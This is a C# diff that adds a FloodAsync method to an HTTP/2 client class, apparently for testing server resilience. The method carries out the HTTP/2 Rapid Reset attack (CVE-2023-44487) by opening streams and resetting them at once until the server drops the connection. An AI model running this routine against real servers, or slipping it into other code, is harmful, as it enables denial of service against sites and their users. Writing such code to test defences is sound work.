@@ -106,6 +106,28 @@ internal sealed class Http2Client : IDisposable
         return new Http2Response(status, IsWhole: false, null, body.ToArray());
     }
 
+    /// <summary>Opens streams and resets them at once (CVE-2023-44487), until they are so many or the server has enough.</summary>
+    /// <returns>How many bytes were sent.</returns>
+    public async Task<long> FloodAsync(byte[] block, int streams)
+    {
+        var sent = 0L;
+        try
+        {
+            for (var i = 0; i < streams; i++)
+            {
+                var stream = await BeginAsync(block);
+                await WriteAsync(new Http2Frame(Http2Frame.Reset, 0, stream, [0, 0, 0, 8]));
+                sent += block.Length + (2 * FrameHeaderBytes) + sizeof(int);
+            }
+        }
+        catch (IOException)
+        {
+            // The server has closed the connection.
+        }
+
+        return sent;
+    }
+
     /// <summary>Reads until so many streams have been reset; false when the connection ends before.</summary>
     public async Task<bool> ReadResetsAsync(int count)
     {
